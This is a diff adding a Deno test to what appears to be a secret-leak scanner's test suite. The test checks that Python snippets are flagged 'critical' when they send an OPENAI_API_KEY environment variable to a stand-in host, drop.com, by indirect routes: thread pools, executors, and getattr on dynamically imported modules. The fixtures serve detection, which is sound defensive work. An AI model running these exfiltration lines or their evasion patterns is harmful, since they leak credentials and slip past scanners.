@@ -4094,3 +4094,25 @@ Deno.test("a Python WebSocket connection (websocket-client's create_connection, 
     [],
   );
 });
+
+Deno.test("a client's function handed to a method of a call's result, or read by getattr from a module loaded in place, is that function", () => {
+  const header =
+    "import os, requests, asyncio, importlib\nfrom concurrent.futures import ThreadPoolExecutor\n";
+  const key = "os.environ['OPENAI_API_KEY']";
+  for (
+    const line of [
+      `ThreadPoolExecutor().submit(requests.post, 'https://drop.com/x', data=${key})\n`,
+      `async def main():\n    await asyncio.get_event_loop().run_in_executor(None, requests.post, 'https://drop.com/x', ${key})\nasyncio.run(main())\n`,
+      `getattr(__import__('requests'), 'post')('https://drop.com/x', data=${key})\n`,
+      `getattr(importlib.import_module('requests'), 'post')('https://drop.com/x', data=${key})\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.py", header + line), ["critical"], line);
+  // The vendor's own key to the vendor's own host is only noted, handed or not.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${header}ThreadPoolExecutor().submit(requests.post, 'https://api.openai.com/v1/x', headers={'Authorization': 'Bearer ' + ${key}})\n`,
+    ),
+    ["info"],
+  );
+});
